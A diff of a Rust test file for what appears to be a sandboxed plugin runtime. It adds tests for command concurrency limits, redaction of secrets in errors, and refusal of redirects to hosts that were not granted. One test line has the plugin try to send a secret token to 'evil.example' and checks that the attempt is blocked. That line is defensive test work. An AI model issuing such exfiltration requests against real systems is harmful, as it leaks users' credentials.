@@ -111,6 +111,30 @@ async fn programs_that_never_end_flood_or_multiply_are_ended() {
 }
 
 #[tokio::test]
+async fn programs_of_all_calls_together_wait_for_their_turn() {
+    let folder = tempfile::tempdir().expect("a folder");
+    // Each finds the place free, or another one runs at the same time.
+    let place = folder.path().join("place").display().to_string();
+    let script = format!("mkdir {place} || exit 9; for n in 1 2 3 4 5; do cat /dev/null; done; rmdir {place}");
+    let granted = grants(&may_run(&script, &json!({ "timeoutMs": 15_000 })));
+    for (at_once, alone) in [(1, true), (8, false)] {
+        let plugin = plugin(Limits { commands_at_once: at_once, ..Limits::default() });
+        let calls: Vec<_> = (0..16)
+            .map(|_| {
+                let (plugin, granted) = (plugin.clone(), granted.clone());
+                tokio::spawn(async move { assess(&plugin, &run("script", &[]).to_string(), &granted).await })
+            })
+            .collect();
+        let mut crowded = 0;
+        for call in calls {
+            let said = call.await.expect("no panic").expect("it may").answer.sentence;
+            crowded += u32::from(said.starts_with("exit 9"));
+        }
+        assert_eq!(crowded == 0, alone, "{at_once} at once: {crowded} met another one");
+    }
+}
+
+#[tokio::test]
 async fn no_host_but_the_granted_ones_and_no_second_command() {
     let plugin = plugin(Limits::default());
     let granted = json!({ "ssh": { "hosts": [{
@@ -194,6 +218,9 @@ async fn a_secret_is_seen_by_nobody_but_the_plugin_that_may() {
     assert!(format!("{called:?}").matches("[secret token]").count() >= 4, "log, measurement, trace, answer: {called:?}");
     let error = attempt(&plugin, &json!({ "keep": "token" }), &granted).await.expect_err("states are written down");
     assert!(matches!(&error.kind, CallErrorKind::Malformed { message } if message.contains("\"token\"")), "{error:?}");
+    let error = attempt(&plugin, &json!({ "measureNothing": "token" }), &granted).await.expect_err("it is no number");
+    assert!(error.to_string().contains("measurement [secret token] [2J is NaN"), "{error:?}");
+    assert!(!format!("{error:?}").contains(SECRET), "{error:?}");
     let (reason, _) = refused(&plugin, "http", &json!({ "send": { "secret": "token", "host": "evil.example" } }), &granted).await;
     assert!(!reason.contains(SECRET), "{reason}");
 }
@@ -218,7 +245,13 @@ async fn a_redirect_leads_nowhere_that_was_not_granted() {
             json!({ "http": { "allow": [{ "scheme": "http", "host": "127.0.0.1", "port": server.port, "private": true }] } });
         let settings = json!({ "follow": format!("http://127.0.0.1:{}/", server.port) });
         match attempt(&plugin, &settings, &granted).await {
-            Err(error) => assert!(matches!(error.kind, CallErrorKind::Refused { power: "http", .. }), "{location}: {error:?}"),
+            Err(error) => assert!(
+                matches!(
+                    error.kind,
+                    CallErrorKind::Refused { power: "http", .. } | CallErrorKind::Forbidden { power: "http", .. }
+                ),
+                "{location}: {error:?}"
+            ),
             Ok(called) => assert!(!called.answer.sentence.contains("200"), "{location}: {}", called.answer.sentence),
         }
     }
